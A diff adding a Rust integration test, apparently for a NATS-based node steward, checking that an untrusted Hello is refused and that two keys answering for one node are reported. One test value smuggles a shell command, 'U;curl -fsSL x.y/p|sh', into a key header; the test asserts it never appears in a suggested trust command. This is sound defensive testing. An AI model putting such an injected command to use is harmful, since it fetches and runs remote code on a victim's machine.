@@ -729,3 +729,46 @@ fn a_stranger_s_huge_or_line_breaking_fields_make_one_bounded_line_each() {
     let mut ship1 = ship1;
     assert!(ship1.is_running());
 }
+
+#[test]
+fn a_key_is_suggested_for_trust_only_if_it_is_one_and_two_keys_answering_for_a_node_are_said() {
+    let nats = NatsServer::start();
+    let central = Node::start("central", &nats.address(), &[]);
+    central.trust_only(&["ship1"]);
+    let _ship7 = Node::start("ship7", &nats.address(), &[]);
+    let raw = Raw::connect(&nats.address());
+    // A Hello from a name central trusts no key for, its "key" a line of shell.
+    let payload = envelope("hello-1", "ship8", "central", "EventNACK", "Hello", &[]);
+    let mut h = signed_by("intruder", "central.EventNACK.Hello", None, &payload);
+    h.insert(steward::keys::KEY, "U;curl -fsSL x.y/p|sh");
+    raw.send("central.EventNACK.Hello", None, Some(&h), &payload);
+    central.wait_refused("Hello", 1);
+    // An intruder answers central's commands to ship7, which answers too, each under its
+    // own key: central trusts neither.
+    let asked = raw.spy("ship7.CommandACK.CLICommand");
+    let conn = raw.conn.clone();
+    std::thread::spawn(move || {
+        let intruder = steward::keys::Identity::from_seed(&common::seed_of("intruder")).unwrap();
+        for m in asked.iter() {
+            let (Some(reply), Some(sig)) = (
+                m.reply.as_deref(),
+                m.headers.as_ref().and_then(|h| h.get(steward::keys::SIG)),
+            ) else {
+                continue;
+            };
+            let sealed = intruder.seal(steward::keys::Scope::reply(reply, sig), b"[]");
+            let _ = conn.publish_with_reply_or_headers(reply, None, Some(&sealed.headers), b"[]");
+        }
+    });
+    central.append_inmsg(
+        r#"[{"toNode":"ship7","data":["true"],"commandOrEvent":"CommandACK","method":"CLICommand","timeout":2,"retries":1}]"#,
+    );
+    let errors = central.wait_for("errors.log", "different keys");
+    assert!(
+        errors.contains(&key_of("intruder")) && errors.contains(&key_of("ship7")),
+        "{errors}"
+    );
+    let log = central.log();
+    assert!(!log.contains("keys trust ship8 U;curl"), "{log}");
+    assert!(!errors.contains("keys trust ship8"), "{errors}");
+}
